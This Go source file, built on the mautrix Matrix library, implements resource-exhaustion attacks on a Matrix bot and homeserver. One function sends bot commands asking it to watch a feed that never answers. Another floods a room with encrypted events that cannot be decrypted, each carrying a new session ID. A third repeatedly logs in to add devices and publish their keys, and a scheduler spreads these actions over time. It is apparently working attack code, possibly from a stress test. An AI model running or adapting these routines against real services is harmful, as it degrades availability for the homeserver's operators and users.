package main

import (
	"context"
	"fmt"
	"strings"
	"time"

	"golang.org/x/sync/errgroup"
	"maunium.net/go/mautrix"
	"maunium.net/go/mautrix/crypto"
	"maunium.net/go/mautrix/event"
	"maunium.net/go/mautrix/id"
)

// requestFeed asks for a watch on a feed that never answers.
func (t *target) requestFeed(ctx context.Context, a *attack, n int) error {
	_, err := t.client.SendEvent(ctx, t.rooms[n%len(t.rooms)], event.EventMessage, &event.MessageEventContent{
		MsgType: event.MsgText, Body: fmt.Sprintf("!veille flux %s/%d", a.dead.URL, n),
	})
	return err
}

// flood sends an event that nobody can decrypt, each with another key.
func (t *target) flood(ctx context.Context, _ *attack, n int) error {
	_, err := t.client.SendMessageEvent(ctx, t.sealed, event.EventEncrypted, map[string]any{
		"algorithm": id.AlgorithmMegolmV1, "ciphertext": strings.Repeat("QUJD", 200), "device_id": "NONE",
		"sender_key": "none", "session_id": fmt.Sprintf("%020d%023d", time.Now().UnixNano(), n),
	}, mautrix.ReqSendEvent{DontEncrypt: true})
	return err
}

// addDevice logs in to the attacker's account and publishes the new device's keys. It
// does not sync: each first sync would cost the homeserver more than all else.
func (t *target) addDevice(ctx context.Context, a *attack, _ int) error {
	client, err := mautrix.NewClient(a.hs.URL, "", "")
	if err != nil {
		return err
	}
	_, err = client.Login(ctx, &mautrix.ReqLogin{
		Type:             mautrix.AuthTypePassword,
		Identifier:       mautrix.UserIdentifier{Type: mautrix.IdentifierTypeUser, User: string(t.account.UserID)},
		Password:         t.account.Password,
		StoreCredentials: true,
	})
	if err != nil {
		return err
	}
	machine := crypto.NewOlmMachine(client, nil, crypto.NewMemoryStore(nil), nil)
	if err := machine.Load(ctx); err != nil {
		return err
	}
	return machine.ShareKeys(ctx, 0)
}

// spread starts do count times, evenly over lasts, at most 4 at once. It leaves out
// what it cannot start before lasts is over.
func spread(ctx context.Context, lasts time.Duration, count int, do func(n int) error) error {
	end := time.Now().Add(lasts)
	g, ctx := errgroup.WithContext(ctx)
	g.SetLimit(4)
	for n := range count {
		select {
		case <-time.After(time.Until(end.Add(-lasts * time.Duration(count-n) / time.Duration(count)))):
		case <-ctx.Done():
			return g.Wait()
		}
		if time.Now().After(end) {
			break
		}
		g.Go(func() error { return do(n) })
	}
	return g.Wait()
}
